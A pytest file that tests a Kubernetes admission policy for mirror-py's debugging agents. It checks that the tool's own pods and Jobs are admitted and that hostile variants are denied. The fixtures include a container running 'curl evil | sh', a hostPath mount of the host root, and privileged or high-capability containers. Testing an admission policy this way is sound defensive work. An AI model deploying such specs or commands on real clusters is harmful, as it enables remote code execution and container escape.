"""k8s/admission-policy.yaml, evaluated: it admits exactly what mirror-py sends and denies the hostile variants.

The API server evaluates a ValidatingAdmissionPolicy's CEL against ``object``, ``oldObject``, ``request`` and the
policy's ``variables``. Here a pure-Python CEL implementation does the same with bodies built by mirror-py's own
placement code (the targetless pod, the agent Job and the pod its controller makes, the ephemeral PATCH for each
row of the capability table), so the policy cannot drift from what mirror-py creates, and with hostile variants
(privileged, extra capabilities, host paths, other images or commands, a Job without the label), each of which
must be denied with the message of the rule that exists for it. That the policy compiles here also keeps it in
the CEL that every implementation shares.
"""

from __future__ import annotations

import copy
import json
from dataclasses import dataclass
from pathlib import Path

import celpy
import pytest
import yaml
from celpy import celtypes

from mirror_py.kube import placement

ROOT = Path(__file__).resolve().parents[2]
POLICY_FILE = ROOT / "k8s" / "admission-policy.yaml"
TOKEN = "mirror-py-0123456789ab"
IMAGE = "python:3.12-slim"
JOB_NAMESPACE = "staging"  # listed in the policy's jobNamespaces
JOB_CONTROLLER = "system:serviceaccount:kube-system:job-controller"

PRIVILEGED = "a privileged or host-sharing pod here must be mirror-py's agent Job, in a namespace the policy lists"
EPHEMERAL_PRIVILEGED = "ephemeral containers may not be privileged"
EPHEMERAL_CAPS = "ephemeral containers may add only NET_ADMIN, NET_RAW and SYS_PTRACE"
EPHEMERAL_SHAPE = "mirror-py ephemeral agents run an approved image with mirror-py's idle program and mount nothing"
POD_IMAGE = "mirror-py agent pods run one container of an approved agent image"
POD_COMMAND = "mirror-py agent pods run mirror-py's idle program and nothing else"
POD_VOLUMES = "mirror-py agent pods mount no volumes and no service-account token"
POD_CAPS = "mirror-py agent pods add no capabilities (the job agent is privileged instead)"


def _documents() -> list[dict]:
    return [d for d in yaml.safe_load_all(POLICY_FILE.read_text()) if d]


@dataclass
class Policy:
    """The policy's variables and validations, compiled once."""

    variables: list[tuple[str, celpy.Runner]]
    validations: list[tuple[str, celpy.Runner]]

    @classmethod
    def load(cls) -> Policy:
        docs = _documents()
        (spec,) = [d["spec"] for d in docs if d["kind"] == "ValidatingAdmissionPolicy"]
        env = celpy.Environment()

        def compile_(text: str) -> celpy.Runner:
            return env.program(env.compile(text))

        return cls([(v["name"], compile_(v["expression"])) for v in spec["variables"]],
                   [(v["message"], compile_(v["expression"])) for v in spec["validations"]])

    def denials(self, request: dict, obj: dict, old: dict | None = None) -> list[str]:
        """The messages of the validations that do not hold (an evaluation error denies too, as with
        failurePolicy Fail, and is reported with its error)."""
        activation = {"request": celpy.json_to_cel(request), "object": celpy.json_to_cel(obj),
                      "oldObject": celpy.json_to_cel(old)}
        variables: dict = {}
        for name, program in self.variables:
            activation["variables"] = celtypes.MapType(variables)
            variables[celtypes.StringType(name)] = program.evaluate(activation)
        activation["variables"] = celtypes.MapType(variables)
        denied = []
        for message, program in self.validations:
            try:
                result = program.evaluate(activation)
            except celpy.CELEvalError as exc:
                denied.append(f"{message} (evaluation error: {exc})")
                continue
            if result is not celtypes.BoolType(True) and result != celtypes.BoolType(True):
                denied.append(message)
        return denied


@pytest.fixture(scope="module")
def policy() -> Policy:
    return Policy.load()


def _request(resource: str, namespace: str, operation: str = "CREATE", sub: str = "", user: str = "alice",
             group: str = "") -> dict:
    return {"operation": operation, "namespace": namespace, "subResource": sub, "userInfo": {"username": user},
            "resource": {"group": group, "version": "v1", "resource": resource}}


# --- what mirror-py sends --------------------------------------------------------------------------------------


def targetless() -> tuple[dict, dict]:
    body = placement.targetless_pod(TOKEN, "mirror-py", "python3", IMAGE)
    return _request("pods", "mirror-py"), body


def job() -> tuple[dict, dict]:
    return _request("jobs", JOB_NAMESPACE, group="batch"), placement.job_body(TOKEN, JOB_NAMESPACE, "node-1",
                                                                              "python3", IMAGE)


def job_pod() -> tuple[dict, dict]:
    """The pod the Job controller makes from the agent Job's template."""
    template = copy.deepcopy(placement.job_body(TOKEN, JOB_NAMESPACE, "node-1", "python3", IMAGE)["spec"]["template"])
    template["metadata"]["labels"].update({"job-name": TOKEN, "batch.kubernetes.io/job-name": TOKEN})
    pod = {"apiVersion": "v1", "kind": "Pod",
           "metadata": {"name": TOKEN + "-x7k2p", "namespace": JOB_NAMESPACE, **template["metadata"]},
           "spec": template["spec"]}
    return _request("pods", JOB_NAMESPACE, user=JOB_CONTROLLER), pod


TARGET_POD = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "api-0", "namespace": "staging"},
              "spec": {"containers": [{"name": "app", "image": "registry.example/api:1"}]}}


def ephemeral(container: dict, old_pod: dict | None = None) -> tuple[dict, dict, dict]:
    old = copy.deepcopy(old_pod or TARGET_POD)
    new = copy.deepcopy(old)
    new["spec"]["ephemeralContainers"] = [*old["spec"].get("ephemeralContainers", []), container]
    return _request("pods", "staging", "UPDATE", "ephemeralcontainers"), new, old


def agent_container(needs: placement.AgentNeeds, pod: dict | None = None) -> dict:
    """The container of mirror-py's ephemeral PATCH body, for a session with these needs."""
    security = placement.ephemeral_security((pod or TARGET_POD)["spec"], "app", needs)
    return placement.ephemeral_container(TOKEN, TOKEN, IMAGE, "python3", "app", security)


ALL_NEEDS = [placement.AgentNeeds(incoming, reads) for incoming in placement.INCOMING_CAPABILITIES
             for reads in (True, False)]


# --- allowed ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("build", [targetless, job, job_pod], ids=["targetless pod", "agent job", "job's pod"])
def test_what_mirror_py_creates_is_admitted(policy, build):
    request, obj = build()
    assert policy.denials(request, obj) == []


@pytest.mark.parametrize("needs", ALL_NEEDS, ids=[f"{n.incoming}-{'reads' if n.target_process else 'no-reads'}"
                                                  for n in ALL_NEEDS])
@pytest.mark.parametrize("security", [{}, {"runAsUser": 1000, "runAsGroup": 1000}, {"runAsUser": 0, "runAsGroup": 0}],
                         ids=["undeclared", "non-root", "root"])
def test_every_ephemeral_agent_mirror_py_sends_is_admitted(policy, needs, security):
    pod = copy.deepcopy(TARGET_POD)
    pod["spec"]["securityContext"] = security
    assert policy.denials(*ephemeral(agent_container(needs, pod), pod)) == []


def test_an_ordinary_debug_container_and_an_ordinary_job_are_admitted(policy):
    debug = {"name": "debugger-abc12", "image": "busybox", "targetContainerName": "app", "stdin": True, "tty": True}
    assert policy.denials(*ephemeral(debug)) == []
    plain = {"apiVersion": "batch/v1", "kind": "Job", "metadata": {"name": "migrate", "namespace": "staging"},
             "spec": {"template": {"spec": {"restartPolicy": "Never",
                                            "containers": [{"name": "m", "image": "registry.example/m:1"}]}}}}
    assert policy.denials(_request("jobs", "staging", group="batch"), plain) == []


def test_ephemeral_containers_that_exist_already_are_not_judged_again(policy):
    """A privileged debug container added before the policy was loaded must not block mirror-py's agent."""
    old = copy.deepcopy(TARGET_POD)
    old["spec"]["ephemeralContainers"] = [{"name": "old-debug", "image": "busybox",
                                           "securityContext": {"privileged": True}}]
    assert policy.denials(*ephemeral(agent_container(placement.AgentNeeds()), old)) == []


def test_the_policy_pins_mirror_py_s_idle_program():
    """The policy holds the idle program byte for byte; when it changes in placement.py, update the policy."""
    (spec,) = [d["spec"] for d in _documents() if d["kind"] == "ValidatingAdmissionPolicy"]
    (text,) = [v["expression"] for v in spec["variables"] if v["name"] == "idleProgram"]
    assert json.loads(text) == placement.IDLE, "k8s/admission-policy.yaml: set idleProgram to json.dumps(IDLE)"


# --- denied ----------------------------------------------------------------------------------------------------


def _with(body: dict, path: str, value: object) -> dict:
    """A copy of ``body`` with the dotted ``path`` (list indexes as numbers) set to ``value``."""
    out = copy.deepcopy(body)
    node = out
    *parents, last = path.split(".")
    for part in parents:
        node = node[int(part)] if isinstance(node, list) else node.setdefault(part, {})
    if isinstance(node, list):
        node[int(last)] = value
    else:
        node[last] = value
    return out


def _agent(**changes: object) -> dict:
    container = agent_container(placement.AgentNeeds("steal"))
    for path, value in changes.items():
        container = _with(container, path.replace("__", "."), value)
    return container


HOSTILE_EPHEMERAL = {
    "privileged debug container": ({"name": "debugger", "image": "busybox",
                                    "securityContext": {"privileged": True}}, EPHEMERAL_PRIVILEGED),
    "privileged agent": (_agent(securityContext={"privileged": True}), EPHEMERAL_PRIVILEGED),
    "agent adding SYS_ADMIN": (_agent(securityContext__capabilities__add=["NET_ADMIN", "SYS_ADMIN"]), EPHEMERAL_CAPS),
    "debug container adding ALL": ({"name": "debugger", "image": "busybox",
                                    "securityContext": {"capabilities": {"add": ["ALL"]}}}, EPHEMERAL_CAPS),
    "agent of another image": (_agent(image="registry.example/evil:1"), EPHEMERAL_SHAPE),
    "agent with another command": (_agent(command=["sh", "-c", "curl evil | sh"]), EPHEMERAL_SHAPE),
    "agent with a volume": (_agent(volumeMounts=[{"name": "data", "mountPath": "/data"}]), EPHEMERAL_SHAPE),
}


@pytest.mark.parametrize("case", list(HOSTILE_EPHEMERAL))
def test_hostile_ephemeral_containers_are_denied(policy, case):
    container, message = HOSTILE_EPHEMERAL[case]
    assert message in policy.denials(*ephemeral(container))


def _targetless_with(path: str, value: object) -> tuple[dict, dict]:
    request, body = targetless()
    return request, _with(body, path, value)


HOST_PATH = [{"name": "root", "hostPath": {"path": "/"}}]
HOSTILE_PODS = {
    "agent pod with a hostPath volume": (_targetless_with("spec.volumes", HOST_PATH), [POD_VOLUMES, PRIVILEGED]),
    "agent pod of another image": (_targetless_with("spec.containers.0.image", "registry.example/evil:1"),
                                   [POD_IMAGE]),
    "agent pod with another command": (_targetless_with("spec.containers.0.command", ["sh", "-c", "id"]),
                                       [POD_COMMAND]),
    "agent pod adding a capability": (_targetless_with("spec.containers.0.securityContext",
                                                       {"capabilities": {"add": ["NET_ADMIN"]}}), [POD_CAPS]),
    "privileged agent pod made by a user": (_targetless_with("spec.containers.0.securityContext",
                                                             {"privileged": True}), [PRIVILEGED]),
    "agent pod with a service-account token": (_targetless_with("spec.automountServiceAccountToken", True),
                                               [POD_VOLUMES]),
    "agent pod with hostPID": (_targetless_with("spec.hostPID", True), [PRIVILEGED]),
    "job without the label": ((job()[0], _with(_with(job()[1], "metadata.labels", {}),
                                                "spec.template.metadata.labels", {})), [PRIVILEGED]),
    "agent job in a namespace not listed": ((_request("jobs", "default", group="batch"),
                                             placement.job_body(TOKEN, "default", "node-1", "python3", IMAGE)),
                                            [PRIVILEGED]),
    "job-like privileged pod made by a user": ((_request("pods", JOB_NAMESPACE), job_pod()[1]), [PRIVILEGED]),
    "agent job with hostNetwork": ((job()[0], _with(job()[1], "spec.template.spec.hostNetwork", True)),
                                   ["mirror-py agent pods share no host network or IPC"]),
}


@pytest.mark.parametrize("case", list(HOSTILE_PODS))
def test_hostile_pods_and_jobs_are_denied(policy, case):
    (request, obj), messages = HOSTILE_PODS[case]
    denied = policy.denials(request, obj)
    for message in messages:
        assert message in denied, denied
